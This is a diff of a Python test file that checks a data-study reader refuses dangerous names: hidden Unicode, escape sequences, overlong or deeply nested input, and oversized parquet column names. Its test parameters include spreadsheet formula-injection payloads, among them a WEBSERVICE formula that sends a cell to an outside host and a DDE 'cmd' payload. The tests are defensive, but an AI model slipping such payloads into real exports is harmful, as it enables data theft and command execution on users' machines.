@@ -16,6 +16,8 @@ from pathlib import Path
 from types import SimpleNamespace
 from typing import Any
 
+import pyarrow as pa
+import pyarrow.parquet
 import pytest
 import tomli_w
 from rich.live import Live
@@ -144,6 +146,10 @@ def test_a_name_that_hides_something_is_refused_where_it_stands(study: Path, pla
         ("", "it is empty"),
         ("́ill", "stands on nothing"),
         ("i" + "́" * 5, "or on more than 3 others"),
+        ('=WEBSERVICE("http://example.org/"&A2)', "a spreadsheet would run it as a formula"),
+        ("+HYPERLINK(A2)", "a spreadsheet would run it as a formula"),
+        ("@SUM(A1:A9)", "a spreadsheet would run it as a formula"),
+        ("-1+cmd|' /C calc'!A0", "a spreadsheet would run it as a formula"),
     ],
 )
 def test_a_class_with_another_fault_is_refused(study: Path, name: str, why: str) -> None:
@@ -170,6 +176,34 @@ def test_files_of_a_folder_of_images_are_refused_by_their_names(study: Path) -> 
         read_study(study)
 
 
+@pytest.mark.parametrize("forged", [f"{FORGED}\n\x1b[2J", "x" * 100_000], ids=["hidden", "endless"])
+def test_names_within_a_column_of_parquet_are_quoted_and_cut(study: Path, forged: str) -> None:
+    rewritten(study, public="public.parquet")
+    pyarrow.parquet.write_table(pa.table({"age": [{forged: 50}, {forged: 51}]}), study / "public.parquet")
+    with pytest.raises(DataError, match=r"column 'age' of .* holds 'struct<.* more characters.*: turn it") as refused:
+        read_study(study)
+    assert_plain(str(refused.value))
+    assert len(str(refused.value).replace(str(study), "")) < 200
+
+
+@pytest.mark.parametrize(
+    ("content", "said"),
+    [
+        ("study = " + "[" * 20_000, "has tables or lists too deep within each other"),
+        ('study = "a"\nclasses = ["a", "b"]\npublic = "%s.csv"\n' % ("a" * 300), "public in .* cannot be read: "),
+    ],
+    ids=["deep", "long"],
+)
+def test_a_study_that_python_or_the_disk_cannot_take_is_refused_in_one_sentence(
+    study: Path, content: str, said: str
+) -> None:
+    (study / "study.toml").write_text(content)
+    with pytest.raises(ConfigError, match=said) as refused:
+        read_study(study)
+    assert "\n" not in str(refused.value)
+    assert len(str(refused.value)) < 1000
+
+
 @pytest.mark.parametrize("key", ["superlink", "supernode"])
 def test_an_address_that_hides_something_is_refused(fedct: Fedct, kit: Kit, key: str) -> None:
     kit.file.write_text(
@@ -190,20 +224,43 @@ def test_a_surrogate_cannot_even_be_written(study: Path) -> None:
         read_study(study)
 
 
-@pytest.mark.parametrize("changes", [{"classes": ("a", "b\u202e", "c")}, {"columns": [("x\x1b", None)]},
-                                     {"columns": [("x", None), ("y", None), ("z", ("p", "\u200b"))]}])  # fmt: skip
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"classes": ("a", "b\u202e", "c")},
+        {"classes": ("a", "=F(A2)", "c")},
+        {"columns": [("x\x1b", None)]},
+        {"columns": [("x", None), ("y", None), ("z", ("p", "\u200b"))]},
+    ],
+)
 @pytest.mark.filterwarnings("ignore")
 def test_a_model_file_of_a_stranger_is_read_the_same_way(tmp_path: Path, changes: dict[str, Any]) -> None:
     learner, transformer = trained("logistic-regression")
     path = tmp_path / f"global{suffix(learner)}"
     save_model(path, learner, transformer, description("logistic-regression", **changes))
-    with pytest.raises(DataError, match=r"holds the hidden character U\+.*rename it, or ask its author to") as refused:
+    with pytest.raises(
+        DataError, match=r"(hidden character U\+|as a formula).*rename it, or ask its author to"
+    ) as refused:
         load_model(path)
     assert_plain(str(refused.value))
 
 
 @pytest.mark.parametrize(
-    "name", ["Männer", "β-Laktam", "健康", "संक्रमण", "مريض", "bệnh", "tha l", "ICD-10: E11.9 (type 2)"]
+    "name",
+    [
+        "Männer",
+        "β-Laktam",
+        "健康",
+        "संक्रमण",
+        "مريض",
+        "bệnh",
+        "tha l",
+        "ICD-10: E11.9 (type 2)",
+        "-1",
+        "+",
+        "+ (weak)",
+        "=0",
+    ],
 )
 def test_names_of_all_languages_are_taken(study: Path, name: str) -> None:
     for form in ("NFC", "NFD"):
